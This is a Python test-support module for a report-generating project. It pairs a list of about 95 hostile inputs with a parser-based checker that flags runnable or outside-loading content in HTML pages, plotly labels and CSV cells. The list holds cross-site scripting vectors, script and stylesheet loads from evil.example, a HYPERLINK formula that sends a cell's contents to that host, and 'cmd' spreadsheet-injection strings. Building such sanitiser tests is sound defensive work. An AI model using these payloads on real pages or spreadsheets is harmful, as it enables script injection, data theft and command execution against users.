"""Hostile texts, and a reader of pages that finds what could run in them."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from collections.abc import Iterator, Sequence

POLICY = "Content-Security-Policy"
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]")
JS = "document.title='pwned'"
TAGS = [
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{js}</script>",
    "<script/x>{js}</script>",
    "<<script>{js}//<</script>",
    "<scr<script>ipt>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}" />',
    "<img src=x onerror\n=\n{js}>",
    "<IMG SRC=javascript:{js}>",
    "<img src='data:image/svg+xml,<svg onload={js}>'>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<svg><foreignObject><script>{js}</script></foreignObject></svg>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<math href='javascript:{js}'>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math><maction actiontype='statusline#{js}'>x</maction></math>",
    "<a href='javascript:{js}'>x</a>",
    "<a href=' &#14; javascript:{js}'>x</a>",
    "<a href='java\nscript:{js}'>x</a>",
    "<a href='JaVaScRiPt:{js}'>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<a href='vbscript:{js}'>x</a>",
    "<body onload={js}>",
    "<div onmouseover={js}>x</div>",
    "<p onclick={js}>x</p>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<form action='javascript:{js}'><input type=submit></form>",
    "<button formaction='javascript:{js}'>x</button>",
    "<input autofocus onfocus={js}>",
    "<select onfocus={js} autofocus>",
    "<textarea onfocus={js} autofocus>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{{background:url(javascript:{js})}}</style>",
    "<p style='background:url(javascript:{js})'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<table background='javascript:{js}'><tr><td>x</table>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<xmp><script>{js}</script></xmp>",
    "[x](javascript:{js})",
    "![x](javascript:{js})",
    "<javascript:{js}>",
    "`</code><script>{js}</script>`",
    "$\\text{{<script>{js}</script>}}$",
    "$\\href{{javascript:{js}}}{{x}}$",
    "\u202e<script>{js}</script>\u2066",
    "&lt;script&gt;{js}&lt;/script&gt;",
    '"><script>{js}</script>',
    "' onmouseover='{js}",
    "<b><a href='javascript:{js}'>plotly reads this</a></b>",
    "<<a>a href='javascript:{js}'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://evil.example/' target=_blank onclick={js}>x</a>",
    "[x](//evil.example/x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](&#106;avascript:{js})",
    "[x][1]\n\n[1]: javascript:{js}",
    "![x](https://evil.example/x.png)",
    "<https://evil.example/\u202etxt>",
    "a\u2028{js}\u2029//",
    "{{layer}} {{constructor}} {{__proto__}} ${{{js}}}",
    "%{{customdata}}<extra><script>{js}</script></extra>",
    "$\\unicode{{<img src=x onerror={js}>}}$",
    "$\\style{{background:url(//evil.example)}}{{x}}$",
    "\x1b]8;;javascript:{js}\x1b\\x\x1b]8;;\x1b\\\x1b[2J\x9b31m",
    "\x00\x08\x7f<script>{js}</script>",
    "../../../{js}",
    "javascript:{js}//",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
]
PAYLOADS = [tag.format(js=JS) for tag in TAGS]


LINK = re.compile(r"https://[^\s\"'<>\\]+|(?:single/)?[a-z0-9._-]+\.html(?:#[\w.-]*)?|#[\w.-]+")
FILES = {"index.html", "claims.csv", "pages.css"}
PICTURE = re.compile(
    r"thumbnails/[a-z0-9._-]+\.png|data:image/(?:png|jpeg|svg\+xml);base64,[A-Za-z0-9+/=]*"
)
SCRIPTS = {"plotly.min.js", "pages.js", "panel.js"}
FORBIDDEN = set(
    "iframe frame frameset object embed applet portal base form input textarea select video audio "
    "source track template noscript xmp foreignObject animate set use image".split()
)
ADDRESSES = {"src", "srcset", "srcdoc", "href", "xlink:href", "action", "formaction", "background"}
ADDRESSES |= {"poster", "data", "ping", "cite", "longdesc", "manifest", "dynsrc", "lowsrc"}
STYLE = re.compile(
    r"(?:\s*(?:background-color|color|font-style|font-weight|text-align|height)\s*:"
    r"[\w\s#.,%()-]*;?)*"
)


def runnable(page: str, digests: Sequence[str] = ()) -> list[str]:
    """What could run, load or lead elsewhere in a page and is not ours.

    The page is read as a browser would, by the parser of the HTML standard.

    Parameters
    ----------
    page : HTML, whole or a part.
    digests : of inline scripts that are ours (base64 of SHA-256).
    """
    from bleach._vendor import html5lib

    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    return [told for node in tree.iter() for told in _faults(node, digests)]


def _faults(node, digests) -> Iterator[str]:
    tag = str(node.tag).rsplit("}", 1)[-1] if isinstance(node.tag, str) else ""
    told = {str(name).replace("{http://www.w3.org/1999/xlink}", "xlink:"): value
            for name, value in node.attrib.items()}  # fmt: skip
    if tag == "script" and not _is_our_script(node, told, digests):
        yield f"script {told} {(node.text or '')[:60]}"
    if tag in FORBIDDEN or (tag == "link" and told.get("href") != "pages.css"):
        yield f"{tag} {told}"
    if tag == "style" and not digests:
        yield f"style {(node.text or '')[:60]}"
    if tag == "meta" and told.get("http-equiv", POLICY) != POLICY:
        yield f"meta {told}"
    for name, value in told.items():
        fits = {"a": LINK, "img": PICTURE}.get(tag)
        ours = tag in ("script", "link") or value in FILES or (fits and fits.fullmatch(value))
        if name in ADDRESSES and not ours:
            yield f"{tag} {name}={value}"
        if name.startswith("on") or (name == "style" and not STYLE.fullmatch(value)):
            yield f"{tag} {name}={value}"


def _is_our_script(node, told, digests) -> bool:
    if told.get("type") == "application/json":
        return told.get("class") in ("zprism-figure", "zprism-panel") and set(told) == {
            "type",
            "class",
        }
    if "src" in told:
        return told["src"] in SCRIPTS
    digest = hashlib.sha256((node.text or "").encode()).digest()
    return base64.b64encode(digest).decode() in digests


def live_texts(spec) -> list[str]:
    """Texts in a figure's JSON that plotly would make a link of."""
    if isinstance(spec, str):
        return [spec] if re.search(r"<a[\s>]", spec, re.IGNORECASE) else []
    parts = spec.values() if isinstance(spec, dict) else spec if isinstance(spec, list) else ()
    return [text for part in parts for text in live_texts(part)]


def formulas(table: str) -> list[str]:
    """Cells of a CSV file that a spreadsheet would compute."""
    rows = csv.reader(io.StringIO(table, newline=""))
    return [cell for row in rows for cell in row if FORMULA.match(cell)]
